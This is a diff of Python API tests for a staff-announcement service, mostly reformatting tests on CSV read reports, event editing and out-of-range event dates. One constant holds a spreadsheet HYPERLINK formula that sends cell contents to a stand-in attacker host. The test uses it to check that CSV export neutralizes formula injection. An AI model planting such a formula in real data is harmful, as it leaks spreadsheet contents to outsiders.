@@ -10,8 +10,9 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Відкрити")'
 
 class TestReadReportCsv:
     def test_a_formula_in_a_name_is_neutralized(self, manager_client: TestClient, staff_client: TestClient) -> None:
-        post = manager_client.post("/api/v1/posts", json={"body": "Нова інструкція з вакцинації",
-                                                          "kind": "announcement", "must_read": True}).json()
+        post = manager_client.post(
+            "/api/v1/posts", json={"body": "Нова інструкція з вакцинації", "kind": "announcement", "must_read": True}
+        ).json()
         me = staff_client.get("/api/v1/users/me").json()
         profile = {"name": FORMULA, "handle": me["handle"], "timezone": "Europe/Kyiv"}
         assert staff_client.patch("/api/v1/users/me", json=profile).status_code == 200
@@ -22,8 +23,18 @@ class TestReadReportCsv:
 
 class TestEditEvent:
     def _event(self, client: TestClient) -> int:
-        post = client.post("/api/v1/posts", json={"body": "Тренінг з СЛР", "kind": "event", "event": {
-            "title": "СЛР для медсестер", "starts_at": "2030-03-10T10:00:00", "ends_at": "2030-03-10T12:00:00"}})
+        post = client.post(
+            "/api/v1/posts",
+            json={
+                "body": "Тренінг з СЛР",
+                "kind": "event",
+                "event": {
+                    "title": "СЛР для медсестер",
+                    "starts_at": "2030-03-10T10:00:00",
+                    "ends_at": "2030-03-10T12:00:00",
+                },
+            },
+        )
         assert post.status_code == 201, post.text
         return post.json()["event"]["id"]
 
@@ -44,16 +55,33 @@ class TestEventTimesAtTheEndsOfTheCalendar:
     """Converting year 1 or 9999 with a zone to UTC overflows; such a time is a typo and gets a message."""
 
     def test_the_api_refuses_them(self, staff_client: TestClient) -> None:
-        for starts, ends in (("0001-01-01T00:00+05:00", "2030-03-10T12:00"),
-                             ("2030-03-10T10:00", "9999-12-31T22:00-05:00")):
-            response = staff_client.post("/api/v1/posts", json={"body": "Тренінг", "kind": "event", "event": {
-                "title": "СЛР", "starts_at": starts, "ends_at": ends}})
+        for starts, ends in (
+            ("0001-01-01T00:00+05:00", "2030-03-10T12:00"),
+            ("2030-03-10T10:00", "9999-12-31T22:00-05:00"),
+        ):
+            response = staff_client.post(
+                "/api/v1/posts",
+                json={
+                    "body": "Тренінг",
+                    "kind": "event",
+                    "event": {"title": "СЛР", "starts_at": starts, "ends_at": ends},
+                },
+            )
             assert response.status_code == 422 and "1900" in response.json()["detail"], response.text
         assert staff_client.get("/api/v1/posts").json()["items"] == []
 
     def test_the_page_form_comes_back_with_the_text(self, staff_page: TestClient) -> None:
-        response = submit(staff_page, "/", "/posts", {
-            "kind": "event", "body": "Запрошуємо на тренінг", "event_title": "СЛР для медсестер",
-            "event_starts_at": "9999-12-31T23:00", "event_ends_at": "9999-12-31T23:30"})
+        response = submit(
+            staff_page,
+            "/",
+            "/posts",
+            {
+                "kind": "event",
+                "body": "Запрошуємо на тренінг",
+                "event_title": "СЛР для медсестер",
+                "event_starts_at": "9999-12-31T23:00",
+                "event_ends_at": "9999-12-31T23:30",
+            },
+        )
         assert response.status_code == 422
         assert "1900" in response.text and "Запрошуємо на тренінг" in response.text
